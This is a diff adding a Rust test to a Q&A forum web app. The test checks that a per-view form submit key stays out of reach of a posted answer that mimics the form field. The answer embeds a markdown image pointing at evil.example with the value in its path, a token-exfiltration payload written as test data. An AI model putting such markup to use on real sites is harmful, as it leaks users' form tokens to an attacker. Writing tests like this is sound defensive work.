@@ -400,3 +400,57 @@ async fn a_members_write_on_one_node_shows_on_the_other_node() {
         actix_web::rt::time::sleep(Duration::from_millis(50)).await;
     }
 }
+
+#[actix_web::test]
+async fn text_in_a_post_that_looks_like_a_submit_key_field_is_left_alone() {
+    let app = TestApp::guide().start();
+    let ann = app.member("ann").await;
+    let bob = app.member("bob").await;
+    let mal = app.member("mal").await;
+    let cat = app.member("cat").await;
+    let q = ann
+        .asks("Firmware download does not verify", BODY, "firmware")
+        .await;
+    let checksum = "9f".repeat(32);
+    bob.answers(&q, &format!("The image's SHA-256 is {checksum}."))
+        .await;
+    // A quoted form field naming the same value, next to an image whose
+    // address would carry whatever fills that value in.
+    mal.answers(
+        &q,
+        &format!(
+            "`name=\"submit_key\" value=\"{checksum}\"` ![d](https://evil.example/{checksum}.png)"
+        ),
+    )
+    .await;
+    // As a guest sees it: Bob's answer, Mal's code and image (and the
+    // page's structured data) show the checksum as written.
+    let written = app
+        .client()
+        .get(&q.path)
+        .await
+        .body
+        .matches(&checksum)
+        .count();
+    assert!(written >= 3, "{written}");
+    let page = hit(&cat, &q.path).await;
+    let again = hit(&cat, &q.path).await;
+    for page in [&page, &again] {
+        assert_eq!(page.body.matches(&checksum).count(), written);
+        assert!(page
+            .body
+            .contains(&format!("https://evil.example/{checksum}.png")));
+    }
+    // The live key of the form is new per view and nowhere but in the form.
+    let key = |page: &Page| {
+        let form = &page.body[page
+            .body
+            .find("<input type=\"hidden\" name=\"submit_key\"")
+            .expect("form")..];
+        field_value(form, "submit_key").expect("submit key")
+    };
+    let (first, second) = (key(&page), key(&again));
+    assert_ne!(first, second, "a new submit key per view");
+    assert_ne!(first, checksum);
+    assert_eq!(again.body.matches(&second).count(), 1, "only in the form");
+}
